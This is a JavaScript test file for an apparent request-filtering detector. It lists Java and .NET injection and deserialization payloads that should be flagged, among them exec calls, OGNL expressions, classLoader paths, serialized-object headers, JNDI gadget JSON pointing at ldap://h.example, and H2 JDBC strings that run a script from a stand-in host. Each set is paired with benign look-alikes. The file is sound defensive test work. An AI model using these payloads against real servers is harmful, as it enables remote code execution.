import { inField, inHeader, inTarget, table } from '../verdict.js';

describe('Java', () => {
  table(
    'java',
    [
      'java.lang.Runtime',
      'java.io.File',
      'com.opensymphony.xwork2',
      'org.apache.commons.collections.functors.InvokerTransformer',
      'Runtime.getRuntime().exec("id")',
      'class.module.classLoader.x',
      'rO0ABXNyABE=',
      'new java.lang.ProcessBuilder("x")',
      'java.lang.ProcessHandle',
      'java.util.logging.Logger',
      'org.springframework.jndi.JndiTemplate',
      '["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{}]',
      '{"@type":"org.apache.shiro.realm.JndiRealm"}',
      'redirectAction:%{1}',
      '#application.x',
      '@ognl.Ognl@getValue',
      '["sh"].execute()',
      "@Grab('x:y:1')",
      '<void class="java.lang.Thread">',
      "System.getProperty('a')",
      'Thread.sleep(9)',
      'java.util.HashMap',
      'java.util.PriorityQueue',
      'java.rmi.server.UnicastRemoteObject',
      'javax.management.BadAttributeValueExpException',
      'sun.misc.Unsafe',
      'org.apache.xbean.propertyeditor.JndiConverter',
      'org.springframework.context.support.FileSystemXmlApplicationContext',
      'com.zaxxer.hikari.HikariConfig',
      'ch.qos.logback.core.db.DriverManagerConnectionSource',
      'com.rometools.rome.feed.impl.ObjectBean',
      'net.sf.ehcache.transaction.manager.DefaultTransactionManagerLookup',
      'com.ibatis.sqlmap.engine.transaction.jta.JtaTransactionConfig',
      'groovy.util.Eval',
      'jdk.jshell.JShell',
      'scala.sys.process.Process',
      'clojure.core$eval',
      "java.lang.Runtime.getRuntime().exec('calc')",
      'new ProcessBuilder("id").start()',
      'System.getenv("PATH")',
      'System.exit(0)',
      'Thread.sleep(5000)',
      '#context["com.opensymphony.xwork2.dispatcher.HttpServletResponse"]',
      'redirectAction:${#a=1}',
      'method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS',
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
      'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==',
      'rO0ABXVyABNbTGphdmEubGFuZy5TdHJpbmc7',
      'rO0ABQ==',
      'aced0005737200',
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://h.example/a"}',
      '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext"}',
      '{"@type":"java.net.Inet4Address","val":"x.h.example"}',
      'groovy: "id".execute()',
      '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})',
      'org.apache.logging.log4j.core.lookup.JndiLookup',
      'com.fasterxml.jackson.databind.ObjectMapper',
      'weblogic.work.ExecuteThread',
      'class.module.classLoader',
      '(#context)',
      'rO0ABXNyABFqYXZh',
    ],
    [
      'We teach Java and SQL',
      'java.',
      'java beans',
      'at java.lang.Thread.run(Thread.java:750) the thread of the pool was stopped',
      'org.apache',
      'runtime error',
      'my class.',
      'com.example.app',
      'island of Java',
      'java.lang.NullPointerException',
      'java.lang.OutOfMemoryError: Java heap space',
      'java.net.SocketTimeoutException: Read timed out',
      'Caused by: org.hibernate.exception.ConstraintViolationException: could not execute statement',
      'org.apache.avro',
      'org.apache.kafka',
      'org.springframework.session',
      'org.jboss.arquillian.junit5',
      'javax.xml.bind',
      'org.hibernate.models',
      'com.google.android.gms',
      'com.android.chrome',
      'org.mozilla.firefox',
      'sun.city',
      'scala.la',
      'kotlin coroutines',
      'groovy music',
      'net.sf',
      'com.fasterxml',
      'The class java.util.HashMap is not thread safe.',
      'In Java, java.lang.String is immutable, while StringBuilder is not.',
      'java.util.list',
      'what is java.lang.OutOfMemoryError',
      'the run time of the film',
      'process builder wanted',
      'the system. Exit here',
      'system.properties',
      'thread. Sleep well',
      'action: go',
      'method: bake for an hour',
      'redirect: no',
      'dynamic: yes',
      'class of 1999',
      'class.name',
      'first class. Loader of trucks',
      'please execute (the plan)',
      '"quoted".execute',
      '@grab a coffee',
      '#session 5',
      '#request a song',
      '#context matters',
      '(#1)',
      'the context (#3) is clear',
      'new java course',
      'spring.cloud',
      'spring. Cloud and rain',
      '"@type": "Product"',
      '{"@type":"Person","name":"Ann"}',
      '["org.example",1]',
      '<void>',
      '<java>',
      'ROAB',
      'aced it',
      'H4sIA',
      'T (Java) is a letter',
    ],
  );

  it('lets the names of classes pass where a field is there for them', () => {
    expect(inField('java.util.UUID', 'javaType')).toBeUndefined();
    expect(inField('org.apache.catalina.core.StandardWrapper', 'logger')).toBeUndefined();
    expect(inField('org.apache.commons', 'groupId')).toBeUndefined();
    expect(inField('java.lang.Runtime', 'type')).toBe('java');
  });

  it('lets a method be named', () => {
    expect(inField('rename getRuntime() to runtime()', 'title')).toBeUndefined();
  });

  it('reads names, headers and the Content-Type', () => {
    expect(inTarget('/x?class.classLoader.a=1')).toBe('java');
    expect(inTarget('/x?java.io.Reader=1')).toBe('java');
    expect(inHeader('content-type', '%{(#a=1).(#_memberAccess=1)}')).toBe('java');
    expect(inHeader('cookie', 'session=rO0ABXNyAB')).toBe('java');
  });
});

describe('Drivers, engines and serialised objects', () => {
  table(
    'java',
    [
      "jdbc:h2:mem:test;INIT=CREATE ALIAS EXEC AS 'x'",
      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://h.example/x.sql'",
      'jdbc:mysql://h.example:3306/x?autoDeserialize=true',
      'jdbc:postgresql://h/?socketFactory=a.B&socketFactoryArg=http://h.example/x.xml',
      '(new javax.script.ScriptEngineManager()).getEngineByName("js").eval("x")',
      'new groovy.util.GroovyScriptEngine()',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s',
      '/wEykgEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs',
      '{"__type":"System.Diagnostics.Process, System"}',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      '<ObjectDataProvider MethodName="Start"></ObjectDataProvider>',
    ],
    [
      'jdbc:postgresql://db.example.com:5432/app?sslmode=require',
      'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
      'jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS a',
      'jdbc:mysql://db.example.com/x?useSSL=true',
      '{"$type":"System.Collections.Generic.List`1[[System.String]]"}',
      '{"__type":"Order:#Shop.Models"}',
      'AAEAAAABAAAAaWQ=',
      '/we are here',
      'new javax.money module',
      'ObjectDataProvider in WPF',
    ],
    'data',
  );

  it('finds a type of .NET that runs programs where the object to be made is named', () => {
    expect(inField({ $type: 'System.Diagnostics.Process, System' })).toBe('java');
    expect(inField({ $type: 'System.Collections.Hashtable' })).toBeUndefined();
    expect(inField({ logger: 'System.Diagnostics.Process' })).toBeUndefined();
  });
});
